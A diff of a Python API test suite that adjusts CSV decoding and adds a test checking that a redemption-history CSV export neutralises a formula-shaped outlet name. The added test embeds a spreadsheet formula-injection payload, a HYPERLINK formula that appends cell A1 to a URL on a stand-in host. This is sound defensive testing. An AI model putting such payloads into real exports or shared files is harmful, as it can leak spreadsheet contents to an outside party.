@@ -210,7 +210,7 @@ async def test_history_for_cashier_and_manager_with_csv(till, client):
     assert row["outlet_name"] == "Pelangi Pasar Baru"
     assert row["redeemed_at_local"].endswith("WIB")
     csv_text = (await client.get("/api/v1/verification/redemptions", params={"format": "csv"},
-                                 headers=till.world.manager)).text  # fmt: skip
+                                 headers=till.world.manager)).content.decode("utf-8-sig")  # fmt: skip
     lines = csv_text.strip().splitlines()
     assert (
         lines[0]
@@ -318,3 +318,20 @@ async def test_history_paging_past_any_history_or_integer_is_refused_by_name(til
     for path, name in (("/api/v1/catalog/offers", "age"), ("/api/v1/admin/reports/uplift", "limit")):
         response = await client.get(path, params={name: 10**20}, headers=till.world.dukcapil)
         assert (response.status_code, response.json()["errors"][0]["field"]) == (422, name), path
+
+
+async def test_the_history_csv_writes_a_formula_shaped_outlet_name_as_text(till, client):
+    renamed = await client.put(
+        till.world.url(f"/outlets/{till.world.outlet_id}"),
+        json=outlet_body('=HYPERLINK("http://x.example/?"&A1,"klik")'),
+        headers=till.world.manager,
+    )
+    assert renamed.status_code == 200, renamed.text
+    offer = await till.offer()
+    assert (await till.redeem(await till.card(), offer["id"])).status_code == 201
+
+    csv_text = (await client.get("/api/v1/verification/redemptions", params={"format": "csv"},
+                                 headers=till.world.manager)).content.decode("utf-8-sig")  # fmt: skip
+
+    (row,) = list(__import__("csv").DictReader(csv_text.splitlines()))
+    assert row["outlet_name"].startswith("'=HYPERLINK")
